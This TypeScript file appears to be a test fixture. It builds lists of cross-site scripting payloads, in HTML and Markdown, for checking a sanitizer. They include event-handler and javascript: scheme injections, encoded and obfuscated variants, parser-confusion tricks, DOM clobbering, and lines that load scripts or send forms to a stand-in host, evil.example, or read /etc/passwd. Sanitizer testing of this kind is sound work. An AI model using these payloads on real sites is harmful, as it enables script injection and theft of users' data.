/** Attempts at running a script, in HTML and in Markdown; each would call `pwned` where it succeeds. */

const js = 'pwned(1)'

const handlers = [
  'onload', 'onerror', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onanimationstart', 'onpointerenter',
  'onbeforeinput', 'onscrollend', 'oncontentvisibilityautostatechange', 'onwheel', 'onauxclick', 'oncut', 'onpageshow',
] // prettier-ignore

const tags = [
  'img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'audio src=x', 'marquee', 'iframe',
  'object data=x', 'math', 'select autofocus', 'textarea autofocus', 'a href=x', 'custom-element tabindex=1',
] // prettier-ignore

const schemes = [
  'javascript:pwned(1)', 'JaVaScRiPt:pwned(1)', ' javascript:pwned(1)', 'java\tscript:pwned(1)', 'java\nscript:pwned(1)',
  '\u0001javascript:pwned(1)', 'javascript&colon;pwned(1)', 'javascript&#58;pwned(1)', 'javascript&#x3a;pwned(1)',
  'javascript&#x3A;pwned&lpar;1&rpar;', '&#106;avascript:pwned(1)', '&#x6A;avascript:pwned(1)', '&#0000106avascript:pwned(1)',
  'java&Tab;script:pwned(1)', 'java&NewLine;script:pwned(1)', 'javascript%3Apwned(1)', '%6aavascript:pwned(1)',
  'javascript://%0apwned(1)', 'javascript://example.org/%0D%0Apwned(1)', 'vbscript:pwned(1)', 'livescript:pwned(1)',
  'data:text/html,<script>pwned(1)</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=pwned(1)>', 'DATA:text/html,x', 'blob:http://x/1', 'file:///etc/passwd', 'feed:javascript:pwned(1)',
  'view-source:javascript:pwned(1)', 'jar:http://x!/y', 'mhtml:http://x', 'filesystem:http://x/t', '//evil.example/x',
  '\\\\evil.example/x', '/\\evil.example', 'ѕcript:x', 'javascript\u2028:pwned(1)', 'javascript\u00ad:pwned(1)',
  'about:blank', 'intent://x#Intent;scheme=javascript;end', 'x:pwned(1)', 'ws://evil.example', '\u202ejavascript:pwned(1)',
] // prettier-ignore

const raw = [
  '<script>pwned(1)</script>', '<ScRiPt>pwned(1)</sCrIpT>', '<script/x>pwned(1)</script>', '<<script>script>pwned(1)<</script>/script>',
  '<script src=//evil.example/x.js></script>', '<scr\u0000ipt>pwned(1)</scr\u0000ipt>', '<script\n>pwned(1)</script\n>',
  '</p><script>pwned(1)</script>', '--><script>pwned(1)</script>', ']]><script>pwned(1)</script>', '"><script>pwned(1)</script>',
  `'><script>pwned(1)</script>`, '"\'><img src=x onerror=pwned(1)>', '</title><script>pwned(1)</script>',
  '</textarea><script>pwned(1)</script>', '</script><script>pwned(1)</script>', '</style><script>pwned(1)</script>',
  '<svg><script>pwned(1)</script></svg>', '<svg><script href="data:,pwned(1)"/></svg>', '<svg><a xlink:href="javascript:pwned(1)"><text y=9>x</text></a>',
  '<svg><animate onbegin=pwned(1) attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=pwned(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(1)>#x"/>', '<svg><style><img title="</style><img src=x onerror=pwned(1)>"></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
  '<math><mi xlink:href="javascript:pwned(1)">x</mi></math>', '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned(1) src=1>">',
  '<xmp><p title="</xmp><img src=x onerror=pwned(1)>"></xmp>', '<noscript><p title="</noscript><img src=x onerror=pwned(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=pwned(1)>"></noembed>', '<noframes><img title="</noframes><img src=x onerror=pwned(1)>"></noframes>',
  '<textarea><img title="</textarea><img src=x onerror=pwned(1)>"></textarea>', '<template><script>pwned(1)</script></template>',
  '<template shadowrootmode=open><img src=x onerror=pwned(1)></template>', '<select><option><style><img src=x onerror=pwned(1)></style></option></select>',
  '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>', '<iframe src=javascript:parent.pwned(1)></iframe>', '<embed src=javascript:pwned(1)>',
  '<object data=javascript:pwned(1)></object>', '<object data="data:text/html,<script>parent.pwned(1)</script>"></object>', '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned(1)">', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=import href=data:text/html,x>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example)}</style>', '<p style="background:url(javascript:pwned(1))">x</p>',
  '<div style="width:expression(pwned(1))">x</div>', '<p style=position:fixed;inset:0;z-index:9>x</p>', '<form action=//evil.example><button>x</button></form>',
  '<button formaction=javascript:pwned(1)>x</button>', '<input type=image src=x onerror=pwned(1)>', '<isindex action=javascript:pwned(1) type=submit>',
  '<a href="javascript:pwned(1)">x</a>', '<a target=_blank href=//evil.example>x</a>', '<a id=defaultView name=body>clobber</a>',
  '<img name=getElementById>', '<form id=test><input name=attributes></form>', '<img src="x` `<script>pwned(1)</script>"` `>',
  '<!--><img src=x onerror=pwned(1)>-->', '<![CDATA[<img src=x onerror=pwned(1)>]]>', '<?xml version="1.0"?><script>pwned(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '&lt;script&gt;pwned(1)&lt;/script&gt;', '&#60;script&#62;pwned(1)&#60;/script&#62;',
  '&amp;lt;img src=x onerror=pwned(1)&amp;gt;', '\\u003cscript\\u003epwned(1)\\u003c/script\\u003e', '＜script＞pwned(1)＜/script＞', '%3Cscript%3Epwned(1)%3C/script%3E',
  '+ADw-script+AD4-pwned(1)+ADw-/script+AD4-', '{{constructor.constructor("pwned(1)")()}}', '${pwned(1)}', '<%= pwned(1) %>', '#{pwned(1)}', '{"__html":"<img src=x onerror=pwned(1)>"}',
  '<img src=x onerror=pwned(1)//', '<img/src=x/onerror=pwned(1)>', '<img\tsrc=x\fonerror=pwned(1)>', '<IMG """><SCRIPT>pwned(1)</SCRIPT>">', '<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;pwned&lpar;1&rpar;">x</a>',
  '<p><![endif]--><script>pwned(1)</script>', '<input onfocus=pwned(1) autofocus>', '<x onclick=pwned(1)>x', '<style/onload=pwned(1)>', '<audio src onloadstart=pwned(1)>', '<video><source onerror=pwned(1)></video>',
  '<dialog open onclose=pwned(1)><form method=dialog><button>x</button></form></dialog>', '<p popover id=x onbeforetoggle=pwned(1)><button popovertarget=x>x</button>', '<slot onslotchange=pwned(1)>', '<portal src=javascript:pwned(1)>',
] // prettier-ignore

const linksTo = (scheme: string): string[] => [
  `[texte](${scheme})`,
  `[texte](<${scheme}>)`,
  `[texte]\n\n[texte]: ${scheme}`,
  `<${scheme}>`,
]

const markdown = [
  '![x](javascript:pwned(1))', '![x"onerror="pwned(1)](x)', '![x](x "title"onerror=pwned(1))', '[x](https://example.org "onmouseover=pwned(1)")',
  '[x](https://example.org"onmouseover="pwned(1))', "[x](https://example.org'onmouseover='pwned(1))", '[x](<https://example.org"onclick=pwned(1)>)',
  '[x][y]\n\n[y]: <javascript:pwned(1)> "t"', '[[x](javascript:pwned(1))](https://example.org)', '[x](https://example.org [y](javascript:pwned(1)))',
  'https://example.org/"onmouseover="pwned(1)', 'https://example.org/<script>pwned(1)</script>', 'http://x/\u202egpj.exe', '<https://example.org"onclick=pwned(1)>',
  '`<img src=x onerror=pwned(1)>`', '``` "><img src=x onerror=pwned(1)>\ncode\n```', '~~~ js" onmouseover="pwned(1)\ncode\n~~~', '    <script>pwned(1)</script>',
  '# <img src=x onerror=pwned(1)>', '> <script>pwned(1)</script>', '- <script>pwned(1)</script>', '1. <svg onload=pwned(1)>', '|a|b|\n|-|-|\n|<img src=x onerror=pwned(1)>|x|',
  '**<img src=x onerror=pwned(1)>**', '~~<img src=x onerror=pwned(1)>~~', '[x]: javascript:pwned(1)\n[x]', '[a]: <\njavascript:pwned(1)>\n[a]', '<javascript:pwned(1)@example.org>',
  '[x](mailto:a@b.c?body=<script>pwned(1)</script>)', '[x](tel:"onclick=pwned(1))', '[\u0000](javascript:pwned(1))', '\\<script>pwned(1)\\</script>', '&#x1F;[x](&#x1F;javascript:pwned(1))',
  '[x](JAVASCRIPT&#58;pwned(1))', '[x](\\javascript:pwned(1))', '[x](java\\script:pwned(1))', '[^1]\n\n[^1]: <script>pwned(1)</script>', '<a@b.c" onclick="pwned(1)>', '[x](#" onclick="pwned(1))',
] // prettier-ignore

export const htmlPayloads: readonly string[] = [
  ...raw,
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${js}>`)),
  ...schemes.map((scheme) => `<a href="${scheme}">x</a>`),
]
export const markdownPayloads: readonly string[] = [...markdown, ...schemes.flatMap(linksTo)]

/** Some of each kind, for what is slow. */
export const someOf = (payloads: readonly string[], count: number): string[] =>
  payloads.filter((_, index) => index % Math.ceil(payloads.length / count) === 0)
